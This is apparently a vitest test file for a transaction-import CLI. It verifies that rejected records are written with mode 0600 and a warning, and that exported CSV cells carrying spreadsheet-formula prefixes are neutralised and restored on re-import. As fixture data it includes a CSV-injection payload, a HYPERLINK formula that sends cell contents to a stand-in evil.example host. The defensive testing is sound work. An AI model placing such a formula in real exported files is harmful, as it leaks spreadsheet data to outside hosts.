/**
 * Issue 21, attack 7: the import --rejects file holds personal data, so it is written 0600 with a
 * warning; and no CSV we write carries a live spreadsheet formula (= + - @, tab, CR), yet the
 * rejects file re-imports to exactly the values it was given.
 */
import { mkdtemp, readFile, stat, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { sql } from 'kysely'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { csvRow, neutraliseFormula, restoreFormula } from '../../src/domain/index.ts'
import { toCsv } from '../../src/demo/generate.ts'
import { createTestEnv, type TestEnv } from '../helpers/test-env.ts'
import { runCli } from '../helpers/pipeline.ts'

const HEADER = 'transaction_id,merchant_id,provider,order_id,order_name,method,amount,paid_at,identifier,buyer_name,buyer_tel'
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
let env: TestEnv
let dir: string

beforeAll(async () => {
  env = await createTestEnv()
  dir = await mkdtemp(join(tmpdir(), 'cr-rejects-'))
}, 60_000)
afterAll(async () => {
  await env?.close()
})

describe('the CSV writer', () => {
  it('neutralises every formula prefix and the importer restores it', () => {
    for (const v of ['=1+1', '+82 10', '-5', '@SUM(A1)', '\tx', '\rx']) {
      expect(neutraliseFormula(v)).toBe(`'${v}`)
      expect(restoreFormula(neutraliseFormula(v))).toBe(v)
    }
    for (const v of ['plain', "'quoted", '010-1234-5678', '']) expect(neutraliseFormula(v)).toBe(v)
    expect(csvRow(['a,b', 'say "hi"', '=cmd', ' pad'])).toBe('"a,b","say ""hi""",\'=cmd," pad"')
  })

  it('writes generated days through it', () => {
    const day = { header: ['transaction_id', 'order_name', 'buyer_tel'], rows: [{ transaction_id: 'G-1', order_name: '=1+1', buyer_tel: '+82 10' }], portonePayments: [] }
    const rows = parse(toCsv(day), { columns: true }) as Record<string, string>[]
    expect(rows).toHaveLength(day.rows.length)
    for (const r of rows) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@\t\r]/)
  })
})

describe('import --rejects', () => {
  it('writes the rejected CSV records 0600 with a warning, formula-free, and they re-import unchanged', async () => {
    const file = join(dir, 'day.csv')
    await writeFile(
      file,
      [
        HEADER,
        'R-good,m-shop,nts,o-1,꽃다발,cash,10000,2026-11-02T10:00:00+09:00,010-1234-5678,홍길동,',
        `R-bad,m-nope,nts,o-2,"${FORMULA.replace(/"/g, '""')}",cash,20000,2026-11-02T11:00:00+09:00,010-2222-3333,@홍길동,+82 10-2222-3333`,
      ].join('\n') + '\n',
    )
    const rejects = join(dir, 'rejects.csv')
    await writeFile(rejects, 'old content\n', { mode: 0o644 })
    const r = await runCli(['import', file, '--skip-invalid', '--rejects', rejects, '--json'], env.env())
    expect(r.code, r.stderr).toBe(0)
    expect(r.stderr).toMatch(/warning: .*rejects\.csv holds the rejected records with their personal data in plaintext \(mode 0600\)/)
    expect((await stat(rejects)).mode & 0o777).toBe(0o600)

    const text = await readFile(rejects, 'utf8')
    const records = parse(text, { columns: true }) as Record<string, string>[]
    expect(records).toHaveLength(1)
    for (const v of Object.values(records[0]!)) expect(v).not.toMatch(/^[=+\-@\t\r]/)
    expect(records[0]!.order_name).toBe(`'${FORMULA}`)

    // Fixed (the merchant) and re-imported: the stored values are the originals.
    const fixed = join(dir, 'fixed.csv')
    await writeFile(fixed, text.replace('m-nope', 'm-shop'))
    const again = await runCli(['import', fixed, '--json'], env.env())
    expect(again.code, again.stderr).toBe(0)
    expect(JSON.parse(again.stdout)).toMatchObject({ inserted: 1, rejected: 0 })
    const row = await sql<{ order_name: string }>`SELECT order_name FROM cash_transactions WHERE transaction_id = 'R-bad'`.execute(env.app.db())
    expect(row.rows[0]?.order_name).toBe(FORMULA)
  }, 60_000)

  it('writes JSON Lines rejects 0600 too', async () => {
    const file = join(dir, 'day.jsonl')
    await writeFile(
      file,
      JSON.stringify({
        transaction_id: 'RJ-bad',
        merchant_id: 'm-nope',
        provider: 'nts',
        method: 'cash',
        amount: 5000,
        paid_at: '2026-11-02T10:00:00+09:00',
        identifier: '010-1234-5678',
      }) + '\n',
    )
    const rejects = join(dir, 'rejects.jsonl')
    const r = await runCli(['import', file, '--skip-invalid', '--rejects', rejects], env.env())
    expect(r.code, r.stderr).toBe(0)
    expect(r.stderr).toMatch(/mode 0600/)
    expect((await stat(rejects)).mode & 0o777).toBe(0o600)
    expect(await readFile(rejects, 'utf8')).toContain('RJ-bad')
  }, 60_000)
})
